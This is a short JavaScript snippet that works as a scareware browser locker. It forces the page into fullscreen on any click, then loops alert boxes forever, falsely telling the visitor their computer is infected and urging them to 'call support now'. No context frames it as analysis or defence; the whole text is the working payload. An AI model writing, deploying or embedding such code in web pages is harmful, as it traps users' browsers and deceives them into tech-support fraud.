document.addEventListener('click', function () {
  document.documentElement.requestFullscreen();
});
while (true) {
  alert('WARNING! Your computer is infected. Call support now.');
}
